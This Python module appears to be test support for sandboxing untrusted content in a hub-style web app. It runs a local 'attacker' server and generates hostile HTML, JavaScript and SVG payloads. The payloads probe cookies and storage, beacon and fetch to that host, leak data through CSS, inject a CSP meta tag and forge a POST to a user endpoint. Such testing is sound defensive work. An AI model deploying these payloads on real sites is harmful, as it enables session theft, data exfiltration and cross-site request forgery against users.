"""Content made to attack whoever looks at it, and a server elsewhere that knows whether it succeeded."""

# ruff: noqa: E501 (lines of markup)

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


class Elsewhere:
    """A host of the attacker's; `heard` holds every path that somebody asked it for."""

    def __init__(self, url: str) -> None:
        self.url = url
        self.heard: list[str] = []


@contextmanager
def elsewhere() -> Iterator[Elsewhere]:
    """It listens as long as this lasts."""
    found = Elsewhere("")

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.heard.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<title>elsewhere</title>")

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, format: str, *arguments: object) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    found.url = f"http://127.0.0.1:{server.server_port}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield found
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def script(url: str) -> str:
    """Tries everything, and notes in `window.loot` what succeeded."""
    return f"""
window.loot = ["ran"];
const attempt = (name, act) => {{ try {{ const got = act(); if (got) window.loot.push(name); }} catch {{}} }};
attempt("cookie", () => document.cookie !== undefined);
attempt("storage", () => window.localStorage);
attempt("parent", () => window.parent.document.body);
attempt("top", () => {{ window.top.location = "{url}/top"; return false; }});
attempt("window", () => window.open("{url}/window"));
attempt("worker", () => {{ new Worker("/hub/static/js/home.js"); return true; }});
for (const address of ["/hub/api/user", "/hub/home", "/services/galaxy/api/users/current", "{url}/fetch"]) {{
  for (const credentials of ["include", "omit"]) {{
    fetch(address, {{credentials}}).then((answer) => window.loot.push("fetch " + address + answer.type), () => {{}});
    fetch(address, {{credentials, mode: "no-cors"}}).then(() => window.loot.push("sent " + address), () => {{}});
  }}
}}
attempt("beacon", () => {{ navigator.sendBeacon("{url}/beacon"); return false; }});
attempt("socket", () => {{ new WebSocket("{url}/socket".replace("http", "ws")).onopen = () => window.loot.push("socket"); }});
attempt("image", () => {{ new Image().src = "{url}/image"; }});
const form = document.createElement("form");
form.method = "post"; form.action = "/hub/api/users/mallory"; document.body.append(form);
attempt("form", () => {{ form.submit(); }});
setTimeout(() => {{ window.location = "{url}/own"; }}, 1000);
"""


def markup(url: str, *, at_once: bool = True) -> str:
    """HTML that tries to run scripts, load, send, and lead away; the last one only with `at_once`."""
    refresh = f'<meta http-equiv="refresh" content="0;url={url}/refresh">' if at_once else ""
    return f"""
<script>{script(url)}</script>
<img src="{url}/img" onerror="window.loot = ['onerror']"><img src="x" onerror="window.loot = ['onerror']">
<svg xmlns="http://www.w3.org/2000/svg" onload="window.loot = ['svg']"><script>window.loot = ['svg script']</script>
<image href="{url}/svg-image"/><use href="{url}/svg-use#a"/></svg>
<iframe src="{url}/frame"></iframe><iframe src="/hub/home"></iframe>
<iframe srcdoc="<script>parent.loot = ['srcdoc']</script>"></iframe>
<object data="{url}/object"></object><embed src="{url}/embed">
{refresh}
<meta http-equiv="Content-Security-Policy" content="script-src *">
<base href="{url}/base/"><img src="relative">
<link rel="stylesheet" href="{url}/style"><link rel="prefetch" href="{url}/prefetch">
<link rel="preconnect" href="{url}"><link rel="manifest" href="{url}/manifest"><link rel="icon" href="{url}/icon">
<style>@import url("{url}/import"); @font-face {{ font-family: f; src: url("{url}/font"); }}
body {{ background: url("{url}/background"); font-family: f; }} input[value^="a"] {{ background: url("{url}/css"); }}</style>
<input value="abc"><video src="{url}/video" autoplay></video><audio src="{url}/audio" autoplay></audio>
<form action="/hub/api/users/mallory" method="post"><button id="hub-form">Continue</button></form>
<form action="{url}/form" method="post"><button id="form">Continue</button></form>
<a id="script-link" href="javascript:window.loot=['link']">a</a>
<a id="script-link-top" target="_top" href="javascript:window.loot=['link']">b</a>
<a id="top-link" target="_top" href="{url}/top-link">c</a>
<a id="own-link" target="_self" href="{url}/own-link">d</a>
<a id="ping" target="_self" href="#here" ping="{url}/ping">e</a>
"""


def picture(url: str) -> str:
    """An SVG file that tries the same."""
    return f"""<svg xmlns="http://www.w3.org/2000/svg" onload="window.loot = ['svg']" width="9" height="9">
<script>{script(url).replace("&", "&amp;").replace("<", "&lt;")}</script><image href="{url}/svg-file"/></svg>"""
